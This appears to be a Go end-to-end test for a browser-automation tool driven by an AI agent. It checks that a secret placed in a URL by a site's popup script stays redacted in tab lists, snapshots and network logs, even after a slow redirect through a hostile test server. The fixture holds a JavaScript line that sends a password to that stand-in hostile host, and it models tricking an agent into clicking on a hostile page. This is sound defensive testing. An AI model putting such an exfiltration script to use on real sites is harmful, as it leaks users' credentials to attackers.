package main

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"
)

// TestASlowRedirectKeepsTheSiteThatChoseTheURL: the hostile page opens the
// secret's site in a popup (the agent's click); the site's page sends its
// opener to the hostile server with the value in the URL and closes. The
// hostile server answers 3.5 s later (past the two seconds a closed page
// counts) with a redirect that keeps the value, to its own host or to the
// site. The redirect keeps the credit of the load it ends: the site's page
// among them, so the value is never shown in clear.
func TestASlowRedirectKeepsTheSiteThatChoseTheURL(t *testing.T) {
	t.Parallel()
	for _, toSite := range []bool{false, true} {
		t.Run(fmt.Sprint("toSite=", toSite), func(t *testing.T) {
			t.Parallel()
			slowRedirect(t, toSite)
		})
	}
}

// slowRedirect runs TestASlowRedirectKeepsTheSiteThatChoseTheURL, the
// redirect landing on the site when toSite.
func slowRedirect(t *testing.T, toSite bool) {
	const password = "Slow-Redirect-4471"
	var landOn string
	d := launchHTTP(t, nil, []string{"BROWSERGATE_E2E_NETSECRET=" + password}, networkLogsManifest, "")
	var siteURL, evilURL string
	site, evil := twoSites(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/land" {
			fmt.Fprint(w, `<!doctype html><title>Landed</title><p>landed</p>`)
			return
		}
		fmt.Fprint(w, `<!doctype html><title>Site</title><p>site</p><script>
setTimeout(() => { opener.location = '`+evilURL+`/slow?pw=`+password+`'; window.close(); }, 300);
</script>`)
	}, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/slow":
			time.Sleep(3500 * time.Millisecond)
			http.Redirect(w, r, landOn+"/land?"+r.URL.RawQuery, http.StatusFound)
		case "/land":
			fmt.Fprint(w, `<!doctype html><title>Landed</title><p>landed</p>`)
		default:
			fmt.Fprint(w, `<!doctype html><title>Hostile</title><a id=open href="`+siteURL+`/" target=_blank rel=opener>open</a>`)
		}
	})
	siteURL, evilURL = site, evil
	if toSite {
		landOn = site
	}
	call := allowedCaller(t, d.connect(t, "alice-token"))
	call("navigate", map[string]any{"url": evil + "/"})
	call("click", map[string]any{"selector": "#open"})
	tabs := untilTab(t, call, `"Landed"`)
	snap := call("snapshot", nil)
	reqs := call("network_requests", nil)
	t.Logf("list_tabs:\n%s\nstate:\n%s\nrequests:\n%s", tabs, firstLines(snap, 3), reqs)
	for what, out := range map[string]string{"list_tabs": tabs, "snapshot": snap, "network_requests": reqs} {
		if strings.Contains(out, password) {
			t.Errorf("%s shows the value the site put in the URL in clear", what)
		}
	}
}
